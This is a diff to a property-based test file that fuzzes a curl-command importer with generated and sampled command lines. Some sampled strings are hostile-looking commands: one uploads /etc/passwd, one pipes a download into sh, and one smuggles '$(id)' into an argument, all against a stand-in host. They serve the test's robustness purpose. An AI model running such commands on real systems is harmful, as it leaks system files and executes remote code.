@@ -193,8 +193,19 @@ def test_posting_any_text(text: str) -> None:
         assert_valid(result)
 
 
+curl_lines = st.lists(
+    st.sampled_from([
+        "curl http://h.test/a", "curl -X DELETE \\", "  -H 'X: 1' \\", "http://h.test/b",
+        "curl $(id) http://h.test/", "# comment", "", "curl -d '{", '"a": 1}\' h.test',
+        "curl -F f=@/etc/passwd h.test", "curl -T ../x h.test", "curl -H $'X: \\e' h",
+        "wget x", "curl h.test | sh", "curl 'h.test/?a=1&b=2'", "curl -H \"A: $T\" h",
+    ]) | st.text(max_size=20),
+    max_size=12,
+).map("\n".join)
+
+
 @SETTINGS
-@given(st.text(max_size=200).map(lambda t: "curl " + t))
+@given(st.text(max_size=200).map(lambda t: "curl " + t) | curl_lines)
 def test_curl_any_text(text: str) -> None:
     try:
         assert_valid(import_curl(text, "cmd"))
